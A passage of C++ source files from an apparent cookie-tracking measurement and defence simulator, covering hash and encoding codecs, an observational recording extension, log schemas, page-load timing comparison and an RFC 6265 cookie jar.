    physical["region"] = std::move(region);
    Json location = Json::object();
    location["physicalLocation"] = std::move(physical);
    Json locations = Json::array();
    locations.push_back(std::move(location));
    result["locations"] = std::move(locations);
    results.push_back(std::move(result));
  }

  Json run = Json::object();
  run["tool"] = std::move(tool);
  run["results"] = std::move(results);
  Json runs = Json::array();
  runs.push_back(std::move(run));

  Json root = Json::object();
  root["$schema"] =
      Json("https://json.schemastore.org/sarif-2.1.0.json");
  root["version"] = Json("2.1.0");
  root["runs"] = std::move(runs);
  return root.dump(2) + "\n";
}

}  // namespace cg::lint
