#include "crypto/sha1.h"

#include <bit>
#include <cstring>

#include "crypto/hex.h"

namespace cg::crypto {

Sha1::Sha1()
    : state_{0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0} {}

void Sha1::process_block(const std::uint8_t* block) {
  std::uint32_t w[80];
  for (int i = 0; i < 16; ++i) {
    w[i] = (static_cast<std::uint32_t>(block[i * 4]) << 24) |
           (static_cast<std::uint32_t>(block[i * 4 + 1]) << 16) |
           (static_cast<std::uint32_t>(block[i * 4 + 2]) << 8) |
           static_cast<std::uint32_t>(block[i * 4 + 3]);
  }
  for (int i = 16; i < 80; ++i) {
    w[i] = std::rotl(w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16], 1);
  }

  std::uint32_t a = state_[0], b = state_[1], c = state_[2], d = state_[3],
                e = state_[4];
  for (int i = 0; i < 80; ++i) {
    std::uint32_t f = 0, k = 0;
    if (i < 20) {
      f = (b & c) | (~b & d);
      k = 0x5A827999;
    } else if (i < 40) {
      f = b ^ c ^ d;
      k = 0x6ED9EBA1;
    } else if (i < 60) {
      f = (b & c) | (b & d) | (c & d);
      k = 0x8F1BBCDC;
    } else {
      f = b ^ c ^ d;
      k = 0xCA62C1D6;
    }
    const std::uint32_t tmp = std::rotl(a, 5) + f + e + k + w[i];
    e = d;
    d = c;
    c = std::rotl(b, 30);
    b = a;
    a = tmp;
  }
  state_[0] += a;
  state_[1] += b;
  state_[2] += c;
  state_[3] += d;
  state_[4] += e;
}

void Sha1::update(std::string_view data) {
  total_bytes_ += data.size();
  std::size_t offset = 0;
  if (buffer_len_ > 0) {
    const std::size_t take =
        std::min(data.size(), buffer_.size() - buffer_len_);
    std::memcpy(buffer_.data() + buffer_len_, data.data(), take);
    buffer_len_ += take;
    offset = take;
    if (buffer_len_ == buffer_.size()) {
      process_block(buffer_.data());
      buffer_len_ = 0;
    }
  }
  while (offset + 64 <= data.size()) {
    process_block(reinterpret_cast<const std::uint8_t*>(data.data()) + offset);
    offset += 64;
  }
  if (offset < data.size()) {
    buffer_len_ = data.size() - offset;
    std::memcpy(buffer_.data(), data.data() + offset, buffer_len_);
  }
}

std::array<std::uint8_t, 20> Sha1::digest() {
  const std::uint64_t bit_len = total_bytes_ * 8;
  update(std::string_view("\x80", 1));
  static constexpr char kZeros[64] = {};
  while (buffer_len_ != 56) {
    update(std::string_view(kZeros, 1));
  }
  // Big-endian 64-bit length.
  for (int i = 0; i < 8; ++i) {
    buffer_[56 + i] = static_cast<std::uint8_t>(bit_len >> (56 - i * 8));
  }
  process_block(buffer_.data());
  buffer_len_ = 0;

  std::array<std::uint8_t, 20> out{};
  for (int i = 0; i < 5; ++i) {
    out[i * 4] = static_cast<std::uint8_t>(state_[i] >> 24);
    out[i * 4 + 1] = static_cast<std::uint8_t>(state_[i] >> 16);
    out[i * 4 + 2] = static_cast<std::uint8_t>(state_[i] >> 8);
    out[i * 4 + 3] = static_cast<std::uint8_t>(state_[i]);
  }
  return out;
}

std::string Sha1::hex(std::string_view data) {
  Sha1 sha;
  sha.update(data);
  const auto d = sha.digest();
  return to_hex(d);
}

}  // namespace cg::crypto
