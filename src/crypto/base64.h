// Base64 codec (RFC 4648, standard and URL-safe alphabets).
//
// Trackers in the paper exfiltrate cookie fragments Base64-encoded (e.g.
// LinkedIn's insight.min.js sends `_ga` as "NDQ0MzMyMzY0..."); the detection
// pipeline must generate the same encodings to match them (§4.3).
#pragma once

#include <optional>
#include <string>
#include <string_view>

namespace cg::crypto {

/// Standard alphabet, '=' padded.
std::string base64_encode(std::string_view input);

/// URL-safe alphabet ('-' '_'), unpadded — the form trackers embed in URLs.
std::string base64url_encode(std::string_view input);

/// Decodes either alphabet; padding optional. nullopt on invalid input.
std::optional<std::string> base64_decode(std::string_view input);

}  // namespace cg::crypto
