// Hex codec for digest serialisation.
#pragma once

#include <cstdint>
#include <span>
#include <string>

namespace cg::crypto {

/// Lower-case hex of raw bytes ("deadbeef").
std::string to_hex(std::span<const std::uint8_t> bytes);

}  // namespace cg::crypto
