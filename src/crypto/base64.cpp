#include "crypto/base64.h"

#include <array>
#include <cstdint>

namespace cg::crypto {
namespace {

constexpr char kStd[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
constexpr char kUrl[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

std::string encode_impl(std::string_view input, const char* alphabet,
                        bool pad) {
  std::string out;
  out.reserve((input.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= input.size()) {
    const std::uint32_t n = (static_cast<unsigned char>(input[i]) << 16) |
                            (static_cast<unsigned char>(input[i + 1]) << 8) |
                            static_cast<unsigned char>(input[i + 2]);
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    out.push_back(alphabet[(n >> 6) & 63]);
    out.push_back(alphabet[n & 63]);
    i += 3;
  }
  const std::size_t remain = input.size() - i;
  if (remain == 1) {
    const std::uint32_t n = static_cast<unsigned char>(input[i]) << 16;
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    if (pad) out += "==";
  } else if (remain == 2) {
    const std::uint32_t n = (static_cast<unsigned char>(input[i]) << 16) |
                            (static_cast<unsigned char>(input[i + 1]) << 8);
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    out.push_back(alphabet[(n >> 6) & 63]);
    if (pad) out.push_back('=');
  }
  return out;
}

int decode_value(char c) {
  if (c >= 'A' && c <= 'Z') return c - 'A';
  if (c >= 'a' && c <= 'z') return c - 'a' + 26;
  if (c >= '0' && c <= '9') return c - '0' + 52;
  if (c == '+' || c == '-') return 62;
  if (c == '/' || c == '_') return 63;
  return -1;
}

}  // namespace

std::string base64_encode(std::string_view input) {
  return encode_impl(input, kStd, /*pad=*/true);
}

std::string base64url_encode(std::string_view input) {
  return encode_impl(input, kUrl, /*pad=*/false);
}

std::optional<std::string> base64_decode(std::string_view input) {
  // Strip trailing padding.
  while (!input.empty() && input.back() == '=') input.remove_suffix(1);
  if (input.size() % 4 == 1) return std::nullopt;

  std::string out;
  out.reserve(input.size() * 3 / 4);
  std::uint32_t buffer = 0;
  int bits = 0;
  for (const char c : input) {
    const int v = decode_value(c);
    if (v < 0) return std::nullopt;
    buffer = (buffer << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<char>((buffer >> bits) & 0xFF));
    }
  }
  return out;
}

}  // namespace cg::crypto
