// MD5 (RFC 1321), implemented from the specification.
//
// Used only for identifier matching in the exfiltration-detection pipeline
// (paper §4.3 computes MD5 of candidate identifiers) — never for security.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>

namespace cg::crypto {

class Md5 {
 public:
  Md5();

  void update(std::string_view data);
  /// Finalises and returns the 16-byte digest. The object must not be
  /// updated afterwards.
  std::array<std::uint8_t, 16> digest();

  /// One-shot convenience: lower-case hex digest of `data`.
  static std::string hex(std::string_view data);

 private:
  void process_block(const std::uint8_t* block);

  std::array<std::uint32_t, 4> state_;
  std::uint64_t total_bytes_ = 0;
  std::array<std::uint8_t, 64> buffer_{};
  std::size_t buffer_len_ = 0;
};

}  // namespace cg::crypto
