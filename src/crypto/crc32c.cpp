#include "crypto/crc32c.h"

#include <array>

namespace cg::crypto {
namespace {

// Reflected Castagnoli polynomial (0x1EDC6F41 bit-reversed).
constexpr std::uint32_t kPolyReflected = 0x82F63B78u;

constexpr std::array<std::uint32_t, 256> make_table() {
  std::array<std::uint32_t, 256> table{};
  for (std::uint32_t i = 0; i < 256; ++i) {
    std::uint32_t crc = i;
    for (int bit = 0; bit < 8; ++bit) {
      crc = (crc & 1u) ? (crc >> 1) ^ kPolyReflected : crc >> 1;
    }
    table[i] = crc;
  }
  return table;
}

constexpr std::array<std::uint32_t, 256> kTable = make_table();

}  // namespace

void Crc32c::update(std::string_view data) {
  std::uint32_t crc = state_;
  for (const char c : data) {
    crc = kTable[(crc ^ static_cast<std::uint8_t>(c)) & 0xFFu] ^ (crc >> 8);
  }
  state_ = crc;
}

std::uint32_t crc32c(std::string_view data) {
  Crc32c crc;
  crc.update(data);
  return crc.value();
}

}  // namespace cg::crypto
