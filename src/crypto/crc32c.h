// CRC32C (Castagnoli, RFC 3720 §B.4), table-driven.
//
// Used by the CGAR archive store (src/store/) to checksum every block:
// a bit flip anywhere in a payload must be caught before the record decoder
// sees it. Not cryptographic — it detects corruption, not tampering.
#pragma once

#include <cstdint>
#include <string_view>

namespace cg::crypto {

/// Incremental CRC32C over a byte stream.
class Crc32c {
 public:
  void update(std::string_view data);
  /// The finalised (inverted) checksum of everything updated so far. The
  /// object stays usable: value() can be sampled mid-stream.
  std::uint32_t value() const { return state_ ^ 0xFFFFFFFFu; }

 private:
  std::uint32_t state_ = 0xFFFFFFFFu;
};

/// One-shot convenience.
std::uint32_t crc32c(std::string_view data);

}  // namespace cg::crypto
