// SHA-1 (FIPS 180-4), implemented from the specification.
//
// Like MD5, used solely to match hashed identifiers in outbound requests
// against cookie-derived candidates (paper §4.3).
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>

namespace cg::crypto {

class Sha1 {
 public:
  Sha1();

  void update(std::string_view data);
  /// Finalises and returns the 20-byte digest.
  std::array<std::uint8_t, 20> digest();

  /// One-shot convenience: lower-case hex digest of `data`.
  static std::string hex(std::string_view data);

 private:
  void process_block(const std::uint8_t* block);

  std::array<std::uint32_t, 5> state_;
  std::uint64_t total_bytes_ = 0;
  std::array<std::uint8_t, 64> buffer_{};
  std::size_t buffer_len_ = 0;
};

}  // namespace cg::crypto
