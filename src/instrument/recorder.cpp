#include "instrument/recorder.h"

#include "browser/page.h"
#include "net/psl.h"
#include "obs/trace.h"

namespace cg::instrument {
namespace {

// Counts "a=1; b=2" pairs without allocating.
int count_pairs(const std::string& cookie_string) {
  if (cookie_string.empty()) return 0;
  int n = 1;
  for (const char c : cookie_string) {
    if (c == ';') ++n;
  }
  return n;
}

}  // namespace

void Recorder::on_page_start(browser::Page& page) {
  if (log_ == nullptr) return;
  if (log_->site_host.empty()) {
    log_->site_host = page.url().host();
    log_->site = page.url().site();
  }
  ++log_->pages_visited;
  // Hook DOM mutations for the §8 pilot: record cross-domain modifications.
  page.main_document().add_mutation_observer(
      [this](const webplat::DomMutation& mutation) {
        if (log_ == nullptr) return;
        if (mutation.modifier_domain.empty()) return;  // parser/first-party
        if (mutation.modifier_domain == mutation.target_creator_domain) return;
        log_->dom_mods.push_back(
            {mutation.modifier_domain, mutation.target_creator_domain});
      });
}

void Recorder::on_page_finished(browser::Page& page) {
  if (log_ == nullptr) return;
  if (log_->pages_visited == 1) {
    log_->landing_timings = page.timings();
  }
  // Observer census of the first-party jar at page-finish. peek_for_url is
  // mandatory here: cookies_for_url refreshes last_access, and a
  // measurement read that perturbed the LRU eviction order it observes
  // would break N-thread byte-identity of eviction-heavy sites.
  obs::metric_add(
      "instrument.jar_cookies_at_finish",
      static_cast<std::int64_t>(
          page.browser()
              .jar()
              .peek_for_url(page.url(), page.now(), cookies::JarApi::kScript)
              .size()));
  // Both collection channels functioned for this visit. (Whether any events
  // were captured is a property of the site, not of the pipeline; the
  // paper's completeness filter models channel failures, which the crawler
  // simulates separately.)
  log_->has_cookie_logs = true;
  log_->has_request_logs = true;
}

void Recorder::on_document_cookie_read(browser::Page& page,
                                       const script::ExecContext& ctx,
                                       const webplat::StackTrace& stack,
                                       const std::string& returned_value) {
  (void)page;
  (void)ctx;
  if (log_ == nullptr) return;
  const auto who = ext::attribute_stack(stack, mode_);
  log_->reads.push_back({who.script_url, who.domain,
                         cookies::CookieSource::kDocumentCookie,
                         count_pairs(returned_value), page.now()});
  log_->has_cookie_logs = true;
}

void Recorder::on_store_read(browser::Page& page,
                             const script::ExecContext& ctx,
                             const webplat::StackTrace& stack,
                             const std::vector<script::StoreCookie>& cookies) {
  (void)ctx;
  if (log_ == nullptr) return;
  const auto who = ext::attribute_stack(stack, mode_);
  log_->reads.push_back({who.script_url, who.domain,
                         cookies::CookieSource::kCookieStore,
                         static_cast<int>(cookies.size()), page.now()});
  log_->has_cookie_logs = true;
}

void Recorder::on_script_cookie_change(browser::Page& page,
                                       const script::ExecContext& ctx,
                                       const webplat::StackTrace& stack,
                                       const cookies::CookieChange& change,
                                       cookies::CookieSource api) {
  if (log_ == nullptr) return;
  using Type = cookies::CookieChange::Type;
  if (change.type == Type::kRejected || change.type == Type::kExpiredNoop) {
    return;  // nothing landed in the jar
  }
  const auto who = ext::attribute_stack(stack, mode_);

  ScriptCookieSetRecord record;
  const cookies::Cookie* state = change.current ? &*change.current
                                                : &*change.previous;
  record.cookie_name = state->name;
  record.value = change.current ? change.current->value : "";
  record.setter_url = who.script_url;
  record.setter_domain = who.domain;
  record.true_domain = ctx.script_domain;
  record.api = api;
  record.change_type = change.type;
  record.category = ctx.category;
  record.inclusion = ctx.inclusion;
  record.time = page.now();

  if (change.type == Type::kOverwritten && change.previous && change.current) {
    const auto& before = *change.previous;
    const auto& after = *change.current;
    record.value_changed = before.value != after.value;
    record.expires_changed = before.expires != after.expires;
    record.domain_changed =
        before.domain != after.domain || before.host_only != after.host_only;
    record.path_changed = before.path != after.path;
    record.prev_expires = before.expires.value_or(0);
    record.new_expires = after.expires.value_or(0);
  }
  log_->script_sets.push_back(std::move(record));
  log_->has_cookie_logs = true;
}

void Recorder::on_headers_received(
    browser::Page& page, const net::HttpRequest& request,
    const net::HttpResponse& response,
    const std::vector<cookies::CookieChange>& changes) {
  (void)response;
  if (log_ == nullptr) return;
  using Type = cookies::CookieChange::Type;
  for (const auto& change : changes) {
    if (change.type == Type::kRejected || change.type == Type::kExpiredNoop) {
      continue;
    }
    const cookies::Cookie* state =
        change.current ? &*change.current : &*change.previous;
    // The paper's extension logs only non-HttpOnly header cookies (they are
    // the ones scripts can later touch), but we keep HttpOnly ones flagged —
    // the analysis needs to know they exist to exclude them.
    HttpCookieSetRecord record;
    record.cookie_name = state->name;
    record.value = change.current ? change.current->value : "";
    record.response_host = request.url.host();
    record.setter_domain = request.url.site();
    record.http_only = state->http_only;
    record.first_party = net::same_site(request.url, page.url());
    record.change_type = change.type;
    record.time = page.now();
    log_->http_sets.push_back(std::move(record));
    log_->has_cookie_logs = true;
  }
}

void Recorder::on_request_will_be_sent(browser::Page& page,
                                       const net::HttpRequest& request,
                                       const script::ExecContext* initiator,
                                       const webplat::StackTrace& stack) {
  if (log_ == nullptr) return;
  // Only script-initiated requests are attributed (the debugger-protocol
  // channel of §4.1); navigations and static subresources are skipped.
  if (initiator == nullptr) return;
  const auto who = ext::attribute_stack(stack, mode_);
  log_->requests.push_back({request.url.spec(), request.url.host(),
                            request.url.site(), who.script_url, who.domain,
                            request.destination, page.now()});
  log_->has_request_logs = true;
}

void Recorder::on_script_included(browser::Page& page,
                                  const script::ExecContext& ctx) {
  (void)page;
  if (log_ == nullptr) return;
  log_->includes.push_back({ctx.script_id, ctx.script_url, ctx.script_domain,
                            ctx.category, ctx.inclusion, ctx.inline_script});
}

}  // namespace cg::instrument
