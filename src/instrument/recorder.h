// The measurement extension (paper §4.1).
//
// Implements the four instrumentation channels:
//   1. document.cookie getter/setter interception,
//   2. cookieStore get/getAll/set/delete interception,
//   3. webRequest.onHeadersReceived Set-Cookie capture,
//   4. Network.requestWillBeSent with stack-based attribution.
// Purely observational: it never filters or vetoes anything.
#pragma once

#include "browser/extension.h"
#include "ext/attribution.h"
#include "instrument/records.h"

namespace cg::instrument {

class Recorder final : public browser::Extension {
 public:
  explicit Recorder(ext::AttributionMode mode = ext::AttributionMode::kLastExternal)
      : mode_(mode) {}

  /// Directs logging into `log`. The crawler installs a fresh VisitLog per
  /// site visit. Null disables recording.
  void set_visit_log(VisitLog* log) { log_ = log; }
  VisitLog* visit_log() { return log_; }

  std::string name() const override { return "cookie-measurement"; }

  void on_page_finished(browser::Page& page) override;
  void on_document_cookie_read(browser::Page& page,
                               const script::ExecContext& ctx,
                               const webplat::StackTrace& stack,
                               const std::string& returned_value) override;
  void on_store_read(browser::Page& page, const script::ExecContext& ctx,
                     const webplat::StackTrace& stack,
                     const std::vector<script::StoreCookie>& cookies) override;
  void on_script_cookie_change(browser::Page& page,
                               const script::ExecContext& ctx,
                               const webplat::StackTrace& stack,
                               const cookies::CookieChange& change,
                               cookies::CookieSource api) override;
  void on_headers_received(
      browser::Page& page, const net::HttpRequest& request,
      const net::HttpResponse& response,
      const std::vector<cookies::CookieChange>& changes) override;
  void on_request_will_be_sent(browser::Page& page,
                               const net::HttpRequest& request,
                               const script::ExecContext* initiator,
                               const webplat::StackTrace& stack) override;
  void on_script_included(browser::Page& page,
                          const script::ExecContext& ctx) override;
  void on_page_start(browser::Page& page) override;

 private:
  ext::AttributionMode mode_;
  VisitLog* log_ = nullptr;
};

}  // namespace cg::instrument
