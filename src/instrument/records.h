// Log record schema shared by the measurement extension and the analysis
// framework — the C++ equivalent of the JSON logs the paper's extension
// posts to its background service (§4.1).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "cookies/cookie.h"
#include "cookies/cookie_jar.h"
#include "fault/fault.h"
#include "net/clock.h"
#include "net/http.h"
#include "script/exec_context.h"
#include "webplat/frame.h"

namespace cg::instrument {

/// Version of the record schema below as persisted by the CGAR archive
/// store (src/store/). Bump whenever a record struct gains, loses, or
/// reinterprets a field — the store's footer carries this value and its
/// reader refuses archives written under a newer schema.
inline constexpr std::uint32_t kVisitLogSchemaVersion = 1;

/// A script-initiated cookie write/delete, attributed from the stack trace.
struct ScriptCookieSetRecord {
  std::string cookie_name;
  std::string value;
  /// Stack-attributed setter (what a real extension can know).
  std::string setter_url;
  std::string setter_domain;  // eTLD+1; empty = inline/unknown
  /// Ground truth (simulator-only; used for attribution-accuracy evaluation,
  /// never by detection logic).
  std::string true_domain;
  cookies::CookieSource api = cookies::CookieSource::kDocumentCookie;
  cookies::CookieChange::Type change_type =
      cookies::CookieChange::Type::kCreated;
  script::Category category = script::Category::kFirstParty;
  script::Inclusion inclusion = script::Inclusion::kDirect;
  /// Attribute diffs for overwrite events (paper §5.5 reports these).
  bool value_changed = false;
  bool expires_changed = false;
  bool domain_changed = false;
  bool path_changed = false;
  /// Expiry before/after the overwrite (absolute ms; 0 = session cookie) —
  /// drives the tracking-lifespan-extension analysis.
  TimeMillis prev_expires = 0;
  TimeMillis new_expires = 0;
  TimeMillis time = 0;
};

/// A Set-Cookie header observed via webRequest.onHeadersReceived.
struct HttpCookieSetRecord {
  std::string cookie_name;
  std::string value;
  std::string response_host;
  std::string setter_domain;  // eTLD+1 of the response host
  bool http_only = false;
  bool first_party = false;  // response same-site with the visited page
  cookies::CookieChange::Type change_type =
      cookies::CookieChange::Type::kCreated;
  TimeMillis time = 0;
};

/// A bulk cookie read (document.cookie getter or cookieStore.getAll()).
struct CookieReadRecord {
  std::string reader_url;
  std::string reader_domain;  // eTLD+1; empty = inline/unknown
  cookies::CookieSource api = cookies::CookieSource::kDocumentCookie;
  int cookies_returned = 0;
  TimeMillis time = 0;
};

/// An outbound network request (Network.requestWillBeSent + stack).
struct RequestRecord {
  std::string url;            // full URL including query
  std::string host;
  std::string dest_domain;    // eTLD+1 of the request host
  std::string initiator_url;  // stack-attributed initiating script
  std::string initiator_domain;
  net::RequestDestination destination = net::RequestDestination::kOther;
  TimeMillis time = 0;
};

/// A DOM mutation with cross-domain provenance (pilot study, §8).
struct DomModRecord {
  std::string modifier_domain;
  std::string target_domain;
};

/// A script entering the main frame.
struct ScriptIncludeRecord {
  std::string script_id;
  std::string url;
  std::string domain;  // eTLD+1; empty for inline
  script::Category category = script::Category::kFirstParty;
  script::Inclusion inclusion = script::Inclusion::kDirect;
  bool is_inline = false;
};

/// Everything collected during one site visit (landing page + clicks).
struct VisitLog {
  std::string site_host;
  std::string site;  // eTLD+1
  int rank = 0;

  std::vector<ScriptCookieSetRecord> script_sets;
  std::vector<HttpCookieSetRecord> http_sets;
  std::vector<CookieReadRecord> reads;
  std::vector<RequestRecord> requests;
  std::vector<DomModRecord> dom_mods;
  std::vector<ScriptIncludeRecord> includes;

  /// Landing-page lifecycle timings (Table 4 inputs).
  webplat::PageTimings landing_timings;
  int pages_visited = 0;

  /// The paper keeps only sites with both cookie logs and request logs
  /// (14,917 of 20,000 satisfied this); a visit that died of a fatal crawl
  /// failure is likewise out regardless of what its channels captured.
  bool complete() const {
    return has_cookie_logs && has_request_logs && !fault::is_fatal(failure);
  }
  bool has_cookie_logs = false;
  bool has_request_logs = false;

  /// Crawl-pipeline outcome of the attempt that produced this log
  /// (kNone = clean visit, kSubresourceFailure = degraded but retained).
  fault::FailureClass failure = fault::FailureClass::kNone;
  /// Attempts the crawl pipeline spent on this site, including this one.
  int attempts = 1;
};

}  // namespace cg::instrument
