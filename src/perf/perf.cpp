#include "perf/perf.h"

#include <algorithm>
#include <memory>

#include "crawler/crawler.h"
#include "runtime/thread_pool.h"

namespace cg::perf {

TimingSummary summarize(std::vector<TimeMillis> samples) {
  TimingSummary out;
  if (samples.empty()) return out;
  double sum = 0;
  for (const auto v : samples) sum += static_cast<double>(v);
  out.mean_ms = sum / static_cast<double>(samples.size());
  auto mid = samples.begin() + static_cast<std::ptrdiff_t>(samples.size() / 2);
  std::nth_element(samples.begin(), mid, samples.end());
  out.median_ms = *mid;
  return out;
}

namespace {

struct Collected {
  std::vector<TimeMillis> dcl, interactive, load;
};

/// One fault-free timing crawl under a policy engine, optionally with
/// per-worker CookieGuard instances (extensions are stateful, so each
/// crawl thread needs its own; guard behaviour is per-visit deterministic,
/// so the timings are identical at any thread count).
Collected run_timing_crawl(const crawler::Crawler& crawl, int site_count,
                           int threads, policy::PolicyKind policy,
                           bool with_guard,
                           const cookieguard::CookieGuardConfig& config) {
  const int workers =
      threads <= 0 ? runtime::ThreadPool::hardware_threads() : threads;
  Collected collected;
  std::vector<std::unique_ptr<cookieguard::CookieGuard>> guards;
  crawler::CrawlOptions options;
  options.fault_plan.reset();
  options.threads = threads;
  options.policy = policy;
  if (with_guard) {
    for (int w = 0; w < workers; ++w) {
      guards.push_back(std::make_unique<cookieguard::CookieGuard>(config));
    }
    options.extension_factory =
        [&guards](int worker) -> std::vector<browser::Extension*> {
      return {guards[static_cast<size_t>(worker)].get()};
    };
  }
  crawl.crawl(site_count, options,
              [&](instrument::VisitLog&& log) {
                collected.dcl.push_back(log.landing_timings.dom_content_loaded);
                collected.interactive.push_back(
                    log.landing_timings.dom_interactive);
                collected.load.push_back(log.landing_timings.load_event);
              });
  return collected;
}

Comparison compare_collected(const Collected& normal,
                             const Collected& defended) {
  Comparison out;
  out.normal = {summarize(normal.dcl), summarize(normal.interactive),
                summarize(normal.load)};
  out.guarded = {summarize(defended.dcl), summarize(defended.interactive),
                 summarize(defended.load)};
  out.mean_overhead_ms =
      out.guarded.load_event.mean_ms - out.normal.load_event.mean_ms;
  return out;
}

}  // namespace

Comparison compare_page_load(const corpus::Corpus& corpus, int site_count,
                             const cookieguard::CookieGuardConfig& config,
                             int threads) {
  crawler::Crawler crawl(corpus);
  const Collected normal =
      run_timing_crawl(crawl, site_count, threads, policy::PolicyKind::kNone,
                       /*with_guard=*/false, config);
  const Collected guarded =
      run_timing_crawl(crawl, site_count, threads, policy::PolicyKind::kNone,
                       /*with_guard=*/true, config);
  return compare_collected(normal, guarded);
}

Comparison compare_page_load_policy(const corpus::Corpus& corpus,
                                    int site_count,
                                    policy::PolicyKind policy, int threads) {
  crawler::Crawler crawl(corpus);
  const cookieguard::CookieGuardConfig config;
  const Collected normal =
      run_timing_crawl(crawl, site_count, threads, policy::PolicyKind::kNone,
                       /*with_guard=*/false, config);
  const Collected defended = run_timing_crawl(
      crawl, site_count, threads, policy,
      /*with_guard=*/policy == policy::PolicyKind::kCookieGuard, config);
  return compare_collected(normal, defended);
}

}  // namespace cg::perf
