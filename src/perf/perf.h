// Page-load performance comparison (paper §7.3, Table 4).
//
// Crawls a slice of the corpus twice — plain browser vs CookieGuard
// installed — and summarizes the three lifecycle metrics the paper reports
// (dom_content_loaded, dom_interactive, load_event) as mean and median.
// The per-call interception cost fed into the simulation is itself measured
// by the google-benchmark microbenchmarks in bench/bench_table4_perf.cpp.
#pragma once

#include <vector>

#include "cookieguard/cookieguard.h"
#include "corpus/corpus.h"
#include "net/clock.h"
#include "policy/partition_policy.h"

namespace cg::perf {

struct TimingSummary {
  double mean_ms = 0;
  TimeMillis median_ms = 0;
};

TimingSummary summarize(std::vector<TimeMillis> samples);

struct Metrics {
  TimingSummary dom_content_loaded;
  TimingSummary dom_interactive;
  TimingSummary load_event;
};

struct Comparison {
  Metrics normal;
  Metrics guarded;
  /// Mean added load-event time, the paper's "average overhead" headline.
  double mean_overhead_ms = 0;
};

/// Runs the paired crawl over the first `site_count` corpus sites.
/// `threads` follows CrawlOptions::threads (1 = sequential, 0 = all
/// hardware threads); results are identical at any thread count.
Comparison compare_page_load(const corpus::Corpus& corpus, int site_count,
                             const cookieguard::CookieGuardConfig& config,
                             int threads = 1);

/// Table-4 pairing for one bake-off deployment: plain browser (single jar,
/// no extension) vs the partitioning policy — which for kCookieGuard means
/// the jar-identical engine plus the CookieGuard extension, and for
/// FPI/CHIPS the partitioned jar alone. kNone compares the plain browser
/// against itself (zero overhead by construction; a determinism probe).
Comparison compare_page_load_policy(const corpus::Corpus& corpus,
                                    int site_count,
                                    policy::PolicyKind policy,
                                    int threads = 1);

}  // namespace cg::perf
