#include "cookies/cookie_jar.h"

#include <algorithm>

#include "net/psl.h"
#include "net/set_cookie.h"

namespace cg::cookies {
namespace {

std::string_view source_name(CookieSource s) {
  switch (s) {
    case CookieSource::kHttpHeader:
      return "http";
    case CookieSource::kDocumentCookie:
      return "document.cookie";
    case CookieSource::kCookieStore:
      return "cookieStore";
  }
  return "http";
}

// RFC 6265 §5.1.4 path-match.
bool path_matches(std::string_view request_path, std::string_view cookie_path) {
  if (request_path == cookie_path) return true;
  if (request_path.starts_with(cookie_path)) {
    if (cookie_path.ends_with('/')) return true;
    if (request_path.size() > cookie_path.size() &&
        request_path[cookie_path.size()] == '/') {
      return true;
    }
  }
  return false;
}

}  // namespace

std::string_view to_string(CookieSource s) { return source_name(s); }

CookieChange CookieJar::set(const net::Url& source_url,
                            const net::ParsedSetCookie& parsed, TimeMillis now,
                            JarApi api, std::optional<CookieSource> source) {
  CookieChange change;

  Cookie cookie;
  cookie.name = parsed.name;
  cookie.value = parsed.value;
  cookie.secure = parsed.secure;
  cookie.http_only = parsed.http_only;
  cookie.partitioned = parsed.partitioned;
  cookie.same_site = parsed.same_site;
  cookie.creation_time = now;
  cookie.last_access = now;
  cookie.source = source.value_or(api == JarApi::kHttp
                                      ? CookieSource::kHttpHeader
                                      : CookieSource::kDocumentCookie);

  // RFC 6265 §6.1: reject oversized name+value pairs.
  if (parsed.name.size() + parsed.value.size() > kMaxPairBytes) {
    change.reject_reason = "cookie exceeds size limit";
    return change;
  }

  // RFC 6265 §8.6 / 6265bis: non-HTTP APIs cannot create HttpOnly cookies.
  if (api == JarApi::kScript && parsed.http_only) {
    change.reject_reason = "script cannot set HttpOnly cookie";
    return change;
  }

  // Secure-attribute cookies may only be set from secure URLs (6265bis §5.5).
  if (parsed.secure && !source_url.is_secure()) {
    change.reject_reason = "Secure cookie from non-secure context";
    return change;
  }

  // CHIPS: a Partitioned cookie must also carry Secure.
  if (parsed.partitioned && !parsed.secure) {
    change.reject_reason = "Partitioned cookie without Secure";
    return change;
  }

  // Domain attribute handling (RFC 6265 §5.3 steps 4-6).
  if (!parsed.domain.empty()) {
    if (net::is_public_suffix(parsed.domain) &&
        parsed.domain != source_url.host()) {
      change.reject_reason = "Domain attribute is a public suffix";
      return change;
    }
    if (!net::domain_matches(source_url.host(), parsed.domain)) {
      change.reject_reason = "Domain attribute does not domain-match host";
      return change;
    }
    cookie.domain = parsed.domain;
    cookie.host_only = false;
  } else {
    cookie.domain = source_url.host();
    cookie.host_only = true;
  }

  cookie.path =
      parsed.path.empty() ? source_url.default_cookie_path() : parsed.path;

  // Expiry: Max-Age wins over Expires (RFC 6265 §5.3 step 3).
  if (parsed.max_age_ms) {
    cookie.expires = now + *parsed.max_age_ms;
  } else if (parsed.expires) {
    cookie.expires = *parsed.expires;
  }

  // Find an existing cookie with the same identity.
  auto existing = std::find_if(cookies_.begin(), cookies_.end(),
                               [&](const Cookie& c) {
                                 return c.same_identity(cookie);
                               });

  // Scripts may not evict or replace an HttpOnly cookie.
  if (existing != cookies_.end() && existing->http_only &&
      api == JarApi::kScript) {
    change.reject_reason = "script cannot replace HttpOnly cookie";
    return change;
  }

  const bool lands_expired = cookie.expired(now);

  if (existing != cookies_.end()) {
    change.previous = *existing;
    if (lands_expired) {
      // Setting with a past expiry is the web's delete operation.
      cookies_.erase(existing);
      change.type = CookieChange::Type::kDeleted;
      return change;
    }
    cookie.creation_time = existing->creation_time;  // §5.3 step 11.3
